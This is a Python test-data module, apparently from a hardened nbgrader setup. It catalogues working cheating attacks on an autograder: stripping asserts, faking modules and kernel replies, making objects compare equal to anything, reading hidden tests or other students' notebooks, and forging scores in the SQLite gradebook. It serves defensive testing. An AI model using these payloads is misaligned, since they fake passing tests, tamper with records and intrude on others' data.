"""Ways to full marks that the stock pipeline leaves open, as data.

Each is an answer, a notebook or a file that a student hands in. None computes what was asked for:
on its own merits each earns nothing. `{root}` in a text is the course's folder, which a student
may well know.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from nbformat import NotebookNode, v4

from . import tamper as t

#: What an ordinary course tests with; the second half is hidden from students.
TESTS = {
    "double": """\
import math
assert double(2.0) == 4.0
### BEGIN HIDDEN TESTS
assert double(-3.5) == -7.0
assert math.isclose(double(0.125), 0.25)
### END HIDDEN TESTS""",
    "triple": """\
import numpy as np
np.testing.assert_allclose(triple(2.0), 6.0)
### BEGIN HIDDEN TESTS
np.testing.assert_allclose(triple(-3.5), -10.5)
### END HIDDEN TESTS""",
}

#: What everybody answers who has nothing better.
WRONG = {name: f"def {name}(x):\n    return 0.5" for name in TESTS}

BOTH = ("double", "triple")


@dataclass(frozen=True)
class Attack:
    """One student who cheats.

    `first` runs before all else; `answers` take the place of the wrong ones. `files` lie beside
    the notebook and `tamper` changes it. `wins` are the exercises that stock nbgrader gives full
    marks for; where it gives none, `closed` says why, and the attack is tried on ours alone.
    `walls` is true where only a confined process is kept from it.
    """

    name: str
    first: str = ""
    answers: Mapping[str, str] = field(default_factory=dict)
    files: Mapping[str, str] = field(default_factory=dict)
    tamper: Callable[[NotebookNode], None] | None = None
    wins: tuple[str, ...] = BOTH
    closed: str = ""
    walls: bool = False

    def hand_in(self, notebook: NotebookNode, folder: Path, root: Path) -> None:
        """Write the submission of a notebook that has wrong answers in it."""
        for cell in notebook.cells:
            name = t.named(cell).removesuffix("-answer")
            if t.named(cell).endswith("-answer") and name in self.answers:
                cell.source = self._in(root, self.answers[name])
        if self.first:
            notebook.cells.insert(0, v4.new_code_cell(self._in(root, self.first), id="first"))
        if self.tamper:
            self.tamper(notebook)
        folder.mkdir(parents=True)
        (folder / "toy.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
        for name, text in self.files.items():
            (folder / name).write_text(self._in(root, text), encoding="utf-8")

    def _in(self, root: Path, text: str) -> str:
        return text.replace("{root}", str(root)).replace("{student}", self.name)


# -- answers that ask for the answer --------------------------------------------------------------

#: Finds `f(2.0) == 4.0` and the like in the text of a test, and looks the argument up there.
LOOK_UP = """\
import re

def looked_up(name, x, text):
    number = r"(-?[0-9.]+)"
    found = re.findall(rf"{name}\\({number}\\)(?: ==|,) {number}", text)
    return {float(a): float(b) for a, b in found}[x]
"""


def looking_up(text: str) -> dict[str, str]:
    return {n: f"def {n}(x):\n    return looked_up({n!r}, x, {text})" for n in TESTS}


#: Runs the first cells below the course's folder that define both functions rightly.
STEAL = """\
import json, pathlib
found = {}
for path in sorted(pathlib.Path("{root}").glob("{where}")):
    for cell in json.loads(path.read_text())["cells"]:
        source = "".join(cell["source"])
        if source.startswith("def ") and "return 0.5" not in source and "raise" not in source:
            found[source.split("(")[0]] = source
if not found:
    raise FileNotFoundError("nothing to copy")
"""


def stealing(where: str) -> dict[str, str]:
    return {
        "first": STEAL.replace("{where}", where),
        "answers": {n: f"exec(found['def {n}'])" for n in TESTS},
    }


#: Gives oneself points in the gradebook, once it is `ready`.
FORGE = """\
import sqlite3, sys, time
for _ in range(100):
    base = sqlite3.connect("file:{root}/gradebook.db?mode=rw", uri=True, timeout=20)
    mine = '''id in (select grade.id from grade
        join submitted_notebook n on n.id = grade.notebook_id
        join submitted_assignment a on a.id = n.assignment_id
        where a.student_id = '{student}')'''
    (ready,) = base.execute(f"select count(*) from grade where {ready} and {mine}").fetchone()
    if ready == 2:
        base.execute(f"update grade set {change} where {mine}")
        base.commit()
        break
    base.close()
    time.sleep(0.1)
"""


def forging(change: str, ready: str = "1") -> str:
    return FORGE.replace("{change}", change).replace("{ready}", ready)


LATER = f"""\
import subprocess, sys
later = {forging("auto_score = 3", ready="auto_score is not null")!r}

def start():
    subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
"""

FAKE_REPLY = """\
async def nothing(*arguments, **options):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
"""

SETTINGS = ("sitecustomize.py", "nbgrader_config.py", "ipython_config.py")

ATTACKS = (
    # -- tags, metadata, cells
    Attack("skip-tests", tamper=t.skip_tests),
    Attack("all-tags", tamper=t.all_tags, closed="none of these tags keeps a cell from being run"),
    Attack("forged-metadata", tamper=t.forge_metadata, closed="nbgrader's schema knows no scores"),
    Attack("tests-as-answers", tamper=t.call_tests_answers, closed="nbgrader fails over checksums"),
    Attack("swapped-names", tamper=t.swap_names, closed="locked cells are overwritten by name"),
    Attack("fake-outputs", tamper=t.fake_outputs, closed="outputs are cleared before the run"),
    Attack("deleted-tests", tamper=t.delete_tests, closed="a missing test cell has no score"),
    Attack("duplicated-tests", tamper=t.duplicate_tests, closed="nbgrader stops over copies"),
    Attack("retyped-tests", tamper=t.retype_tests, closed="types come from the gradebook"),
    Attack("moved-tests", tamper=t.move_tests, closed="a test above its answer fails"),
    Attack("other-kernel", tamper=t.other_kernel, closed="the kernel comes from the gradebook"),
    # -- files beside the notebook
    Attack(
        "own-launcher",
        files={
            "ipykernel_launcher.py": FAKE_REPLY
            + "from ipykernel import kernelapp\nfrom ipykernel.ipkernel import IPythonKernel\n"
            "IPythonKernel.do_execute = nothing\nkernelapp.launch_new_instance()\n"
        },
    ),
    Attack(
        "own-numpy",
        files={
            "numpy.py": "class testing:\n    assert_allclose = staticmethod(lambda *a, **k: None)\n"
        },
        wins=("triple",),
    ),
    Attack(
        "own-settings",
        files=dict.fromkeys(
            ("sitecustomize.py", "nbgrader_config.py", "ipython_config.py"),
            "raise SystemExit('taken over')",
        ),
        closed="nbgrader reads its settings in the course's folder, Python before the working one",
    ),
    # -- IPython
    Attack(
        "tree-without-asserts",
        first="import ast\n\nclass Out(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n        return ast.copy_location(ast.Pass(), node)\n"
        "    def visit_Expr(self, node):\n        return ast.copy_location(ast.Pass(), node)\n\n"
        "get_ipython().ast_transformers.append(Out())",
    ),
    Attack(
        "text-without-asserts",
        first="get_ipython().input_transformers_post.append(\n"
        "    lambda lines: [line for line in lines if 'assert' not in line])",
    ),
    Attack(
        "own-execute",
        first=FAKE_REPLY + "get_ipython().kernel.do_execute = nothing",
    ),
    Attack(
        "result-before-the-test",
        first="def claim(info):\n    if 'assert' in info.raw_cell:\n"
        "        get_ipython().displayhook(3.0)\n\n"
        "get_ipython().events.register('pre_run_cell', claim)",
    ),
    Attack(
        "quiet-tracebacks",
        first="shell = get_ipython()\nshell.showtraceback = lambda *a, **k: None\n"
        "shell.set_custom_exc((AssertionError,), lambda *a, **k: None)",
        closed="the kernel's reply says that the cell failed",
    ),
    # -- what tests call
    Attack(
        "own-comparisons",
        first="import numpy as np, sys\n"
        "np.testing.assert_allclose = lambda *a, **k: None\nnp.allclose = lambda *a, **k: True",
        wins=("triple",),
    ),
    Attack(
        "poisoned-modules",
        first="import sys, types\nfake = types.ModuleType('numpy')\n"
        "fake.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)\n"
        "sys.modules['numpy'] = fake",
        wins=("triple",),
    ),
    Attack(
        "own-assertion-error",
        first="import builtins\n\nclass AssertionError(Warning):\n    pass\n\n"
        "builtins.AssertionError = AssertionError",
        closed="whatever is raised is an error",
    ),
    Attack(
        "equal-to-everything",
        answers={
            "double": "class Any(float):\n    def __eq__(self, other):\n        return True\n"
            "    __hash__ = None\n\ndef double(x):\n    import math\n"
            "    math.isclose = lambda *a: True\n    return Any()"
        },
        wins=("double",),
    ),
    Attack(
        "array-of-its-own-mind",
        answers={
            "triple": "import numpy as np\n\nclass Close(np.ndarray):\n"
            "    def __array_function__(self, function, types, args, kwargs):\n"
            "        if function is np.isclose:\n            return np.True_\n"
            "        return super().__array_function__(function, types, args, kwargs)\n\n"
            "def triple(x):\n    return np.zeros(()).view(Close)"
        },
        wins=("triple",),
    ),
    # -- reading the tests
    Attack(
        "asks-the-history",
        first=LOOK_UP,
        answers=looking_up("get_ipython().user_ns['In'][-1]"),
    ),
    Attack(
        "asks-the-caller",
        first=LOOK_UP + "import inspect",
        answers=looking_up("inspect.getsource(inspect.currentframe().f_back)"),
    ),
    Attack(
        "reads-the-gradebook",
        first=LOOK_UP + "import sqlite3\n"
        "base = sqlite3.connect('file:{root}/gradebook.db?mode=ro', uri=True)\n"
        "texts = ' '.join(t for (t,) in base.execute('select source from source_cell'))",
        answers=looking_up("texts"),
        walls=True,
    ),
    Attack("reads-the-source", **stealing("**/source/a0/toy.ipynb"), walls=True),
    Attack("reads-another-student", **stealing("submitted/ada/a0/toy.ipynb"), walls=True),
    # -- writing grades
    Attack("writes-its-score", first=forging("manual_score = 3"), walls=True),
    Attack("extra-credit", first=forging("extra_credit = 3"), walls=True),
    Attack("writes-later", first=LATER + "start()", walls=True),
    Attack("writes-at-exit", first=LATER + "import atexit\natexit.register(start)", walls=True),
)
